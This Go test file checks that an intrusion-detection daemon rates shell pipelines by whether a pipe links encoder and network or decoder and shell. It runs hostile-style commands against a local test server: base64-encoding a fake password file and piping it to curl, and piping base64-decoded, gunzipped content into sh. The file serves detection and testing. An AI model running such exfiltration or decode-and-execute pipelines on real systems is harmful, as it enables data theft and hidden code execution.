package abuse

import (
	"bytes"
	"compress/gzip"
	"encoding/base64"
	"encoding/json"
	"fmt"
	"io"
	"net/http"
	"net/http/httptest"
	"os"
	"path/filepath"
	"strings"
	"testing"
	"time"
)

// pipeAlert is what the pipe evidence test reads of an alert.
type pipeAlert struct {
	Signature struct {
		Name       string `json:"name"`
		Importance string `json:"importance"`
	} `json:"signature"`
	Matches []struct {
		Field  string `json:"field"`
		Value  string `json:"value"`
		Reason string `json:"reason"`
	} `json:"matches"`
}

func (a pipeAlert) pipe() (value, reason string) {
	for _, m := range a.Matches {
		if m.Field == "pipe" {
			return m.Value, m.Reason
		}
	}
	return "", ""
}

// sequenceAlerts waits for the alerts mentioning marker to name sig, and
// returns every alert mentioning marker.
func (d *daemon) sequenceAlerts(t *testing.T, marker, sig string) []pipeAlert {
	t.Helper()
	_, got := d.waitAlerts(marker, []string{sig}, 15*time.Second)
	var out []pipeAlert
	for _, a := range got {
		var p pipeAlert
		if err := json.Unmarshal([]byte(a.line), &p); err != nil {
			t.Fatalf("alert is not JSON: %v\n%s", err, a.line)
		}
		out = append(out, p)
	}
	return out
}

func findSig(as []pipeAlert, sig string) (pipeAlert, bool) {
	for _, a := range as {
		if a.Signature.Name == sig {
			return a, true
		}
	}
	return pipeAlert{}, false
}

// TestKernelPipeEvidence needs root and the kernel audit. Under the shipped
// policy, nobody runs the pipelines of the issue: a correlation of two
// children of one shell is critical when the first one's output is shown
// to reach the second one's input, or cannot be ruled out, and is raised
// lower, saying why, when their descriptors show no pipe between them.
func TestKernelPipeEvidence(t *testing.T) {
	f := setup(t)
	d := startDaemonText(t, f, shippedPolicy(t))

	// A receiver like an attacker's: it takes the body, slowly enough that
	// a big upload holds curl, and the encoder behind it, alive.
	srv := httptest.NewServer(http.HandlerFunc(func(w http.ResponseWriter, r *http.Request) {
		if strings.Contains(r.URL.Path, "slow") {
			time.Sleep(500 * time.Millisecond)
		}
		io.Copy(io.Discard, r.Body)
	}))
	defer srv.Close()

	small := filepath.Join(f.attackDir, "pipe-small")
	big := filepath.Join(f.attackDir, "pipe-big")
	script := filepath.Join(f.attackDir, "pipe-script.b64")
	build := filepath.Join(f.attackDir, "pipe-build.sh")
	var gz bytes.Buffer
	zw := gzip.NewWriter(&gz)
	zw.Write([]byte("echo decoded-and-run\n"))
	zw.Close()
	for name, body := range map[string][]byte{
		small:  []byte("db_password=hunter2\n"),
		big:    bytes.Repeat([]byte("0123456789abcdef"), 1<<19), // 8 MiB: more than the pipe and socket buffers hold
		script: []byte(base64.StdEncoding.EncodeToString(gz.Bytes()) + "\n"),
	} {
		if err := os.WriteFile(name, body, 0o644); err != nil {
			t.Fatal(err)
		}
	}
	run := func(t *testing.T, sh string) {
		t.Helper()
		cmd := asNobody("sh", "-c", sh)
		cmd.Dir = f.attackDir
		if out, err := cmd.CombinedOutput(); err != nil {
			t.Fatalf("%s: %v\n%s", sh, err, out)
		}
	}
	url := func(marker string) string { return srv.URL + "/" + marker }

	t.Run("xxd_head_then_curl", func(t *testing.T) {
		// The complaint of the issue: no dataflow, no critical.
		// The receiver holds the request ("slow"), as a remote one would:
		// curl is read while it lives.
		marker := fmt.Sprintf("pipe-none-slow-%d", time.Now().UnixNano())
		run(t, "xxd "+small+" | head -2 >/dev/null; sleep 0.2; curl -s -o /dev/null "+url(marker))
		got := d.sequenceAlerts(t, marker, "encoder_then_network")
		a, ok := findSig(got, "encoder_then_network")
		if !ok {
			t.Fatalf("xxd | head, then curl raised %v, want encoder_then_network at a lower importance", got)
		}
		v, why := a.pipe()
		t.Logf("encoder_then_network %s: pipe %q: %s", a.Signature.Importance, v, why)
		if a.Signature.Importance != "medium" || v != "none" || !strings.Contains(why, "raised at medium") {
			t.Errorf("encoder_then_network is %s with pipe %q (%s), want medium, pipe none and the reason", a.Signature.Importance, v, why)
		}
		for _, a := range got {
			if a.Signature.Importance == "critical" {
				t.Errorf("xxd | head, then curl raised the critical %s", a.Signature.Name)
			}
		}
	})

	t.Run("base64_file_piped_to_curl", func(t *testing.T) {
		// A small file: base64 may be gone before its descriptors are read;
		// a shared pipe is then not ruled out, and the alert stays critical.
		marker := fmt.Sprintf("pipe-small-%d", time.Now().UnixNano())
		run(t, "base64 "+small+" | curl -s -o /dev/null --data-binary @- "+url(marker))
		got := d.sequenceAlerts(t, marker, "encoder_then_network")
		a, ok := findSig(got, "encoder_then_network")
		if !ok {
			t.Fatalf("base64 f | curl --data-binary @- raised %v, want encoder_then_network", got)
		}
		v, why := a.pipe()
		t.Logf("encoder_then_network %s: pipe %q: %s", a.Signature.Importance, v, why)
		if a.Signature.Importance != "critical" || (!strings.HasPrefix(v, "pipe:[") && v != "unshown") {
			t.Errorf("encoder_then_network is %s with pipe %q (%s), want critical with the pipe shown or unshown", a.Signature.Importance, v, why)
		}
	})

	t.Run("big_upload_shows_the_pipe", func(t *testing.T) {
		// base64 blocks on the pipe while curl uploads: both live, and the
		// shared pipe is shown.
		marker := fmt.Sprintf("pipe-big-slow-%d", time.Now().UnixNano())
		run(t, "base64 "+big+" | curl -s -o /dev/null --data-binary @- "+url(marker))
		got := d.sequenceAlerts(t, marker, "encoder_then_network")
		a, ok := findSig(got, "encoder_then_network")
		if !ok {
			t.Fatalf("base64 big | curl raised %v, want encoder_then_network", got)
		}
		v, why := a.pipe()
		t.Logf("encoder_then_network %s: pipe %q: %s", a.Signature.Importance, v, why)
		if a.Signature.Importance != "critical" || !strings.HasPrefix(v, "pipe:[") {
			t.Errorf("encoder_then_network is %s with pipe %q (%s), want critical with the shared pipe shown", a.Signature.Importance, v, why)
		}
	})

	t.Run("decoder_through_a_filter_to_sh", func(t *testing.T) {
		// base64 -d | gzip -dc | sh: the decoder's output reaches the shell
		// through a live filter (gzip itself: gunzip is a shell script, an
		// interpreter of its own). The sleep keeps the pipeline open.
		marker := fmt.Sprintf("pipe-filter-%d", time.Now().UnixNano())
		run(t, "(cat "+script+"; sleep 0.5) | base64 -d | gzip -dc | sh -s "+marker)
		got := d.sequenceAlerts(t, marker, "decoder_piped_to_interpreter")
		a, ok := findSig(got, "decoder_piped_to_interpreter")
		if !ok {
			t.Fatalf("base64 -d | gzip -dc | sh raised %v, want decoder_piped_to_interpreter", got)
		}
		v, why := a.pipe()
		t.Logf("decoder_piped_to_interpreter %s: pipe %q: %s", a.Signature.Importance, v, why)
		if a.Signature.Importance != "critical" || !strings.Contains(v, "through 1 filter") {
			t.Errorf("decoder_piped_to_interpreter is %s with pipe %q (%s), want critical, shown through the filter", a.Signature.Importance, v, why)
		}
	})

	t.Run("decode_to_file_then_sh", func(t *testing.T) {
		// Decoding to a file and running a script of one's own (one that
		// takes a moment, as builds do): the same parent, no pipe.
		marker := fmt.Sprintf("pipe-file-%d", time.Now().UnixNano())
		if err := os.WriteFile(build, []byte("sleep 0.3\n"), 0o644); err != nil {
			t.Fatal(err)
		}
		run(t, "base64 -d "+script+" > decoded.gz; sh "+build+" "+marker+" </dev/null")
		got := d.sequenceAlerts(t, marker, "decoder_piped_to_interpreter")
		a, ok := findSig(got, "decoder_piped_to_interpreter")
		if !ok {
			t.Fatalf("base64 -d f > out; sh raised %v, want decoder_piped_to_interpreter at a lower importance", got)
		}
		v, why := a.pipe()
		t.Logf("decoder_piped_to_interpreter %s: pipe %q: %s", a.Signature.Importance, v, why)
		if a.Signature.Importance != "high" || v != "none" {
			t.Errorf("decoder_piped_to_interpreter is %s with pipe %q (%s), want high with no pipe", a.Signature.Importance, v, why)
		}
	})
}
